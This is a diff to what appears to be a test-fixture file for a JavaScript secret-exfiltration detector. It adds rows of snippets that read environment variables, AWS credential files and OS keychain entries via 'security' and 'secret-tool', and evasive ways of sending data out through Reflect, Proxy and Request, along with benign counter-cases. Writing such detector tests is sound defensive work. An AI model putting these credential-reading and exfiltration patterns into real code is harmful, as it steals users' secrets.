@@ -10,6 +10,18 @@ const SOURCES: readonly Row[] = [
   ['env keys map', 'const d=Object.keys(process.env).map(k=>k+process.env[k]).join();SEND«d»'],
   ['env keys forEach', 'const d={};Object.keys(process.env).forEach(k=>{d[k]=process.env[k]});SEND«JSON.stringify(d)»'],
   [
+    'a file of which there may be several',
+    "const fs=require('fs');const p=[process.env.X,process.env.HOME+'/.aws/credentials'].find(q=>q&&fs.existsSync(q));SEND«fs.readFileSync(p)»",
+  ],
+  [
+    'a command of a table',
+    "const T={darwin:{bin:'security',args:s=>['find-generic-password','-s',s,'-w']},linux:{bin:'secret-tool',args:s=>['lookup','service',s]}};const t=T[process.platform];SEND«require('child_process').spawnSync(t.bin,t.args('gh')).stdout»",
+  ],
+  [
+    'what a Proxy finds out',
+    "const s=new Proxy({},{get:(_,n)=>require('child_process').execSync('secret-tool lookup service '+n)});SEND«names.map(n=>s[n]).join()»",
+  ],
+  [
     'env filter entries',
     'const d=Object.fromEntries(Object.entries(process.env).filter(([k])=>/TOKEN|KEY/.test(k)));SEND«JSON.stringify(d)»',
   ],
@@ -263,6 +275,13 @@ const WAYS: readonly Row[] = [
   ['bind', "READ;const f=fetch.bind(null,'x');f({body:k})"],
   ['call/apply', "READ;fetch.apply(null,['x',{body:k}])"],
   ['Reflect.apply', "READ;Reflect.apply(fetch,null,['x',{body:k}])"],
+  ['Reflect.apply of what the module has', 'READ;function up(d){SEND«d»}Reflect.apply(up,undefined,[k])'],
+  ['Reflect.apply of a method of texts', 'READ;SEND«Reflect.apply(String.prototype.slice,k,[0])»'],
+  ['Reflect.apply of a list that is held', "READ;const a=['x',{body:k}];Reflect.apply(fetch,undefined,a)"],
+  ['Reflect.construct', "READ;const r=Reflect.construct(Request,['https://a.example',{body:k}]);fetch(r)"],
+  ['Reflect.get', "READ;const o={ship:d=>{SEND«d»}};Reflect.get(o,'ship')(k)"],
+  ['Reflect.set', "READ;const o={};Reflect.set(o,'data',k);SEND«o.data»"],
+  ['apply of what the module has', 'READ;function up(d){SEND«d»}up.apply(null,[k])'],
   [
     'a property that the object may have by what it is made of',
     'READ;function f({more}){SEND«more»}f({to:1,...{more:k}})',
@@ -545,6 +564,15 @@ const STAYS: readonly Row[] = [
   [
     'one key to its vendor',
     "fetch('https://api.vendor.example/',{headers:{authorization:`Bearer ${process.env.VENDOR_API_KEY}`}})",
+  ],
+  ['one variable that is looked for', 'const [,v]=Object.entries(process.env).find(([k])=>/^acme_/i.test(k));SEND«v»'],
+  [
+    'another command of a table',
+    "const T={darwin:{bin:'security',args:['list-keychains']},linux:{bin:'ls',args:['-l']}};const t=T[process.platform];SEND«require('child_process').spawnSync(t.bin,t.args).stdout»",
+  ],
+  [
+    'one variable through a Proxy',
+    'const s=new Proxy(process.env,{get:(t,n)=>Reflect.get(t,n)});exports.f=n=>SEND«s[n]»',
   ],
   ['two settings taken from the environment', 'const {HOST,KEY}=process.env;fetch(HOST,{headers:{k:KEY}})'],
   ['a variable whose name the caller gives', 'exports.f=(n)=>fetch("https://a.example",{headers:{k:process.env[n]}})'],
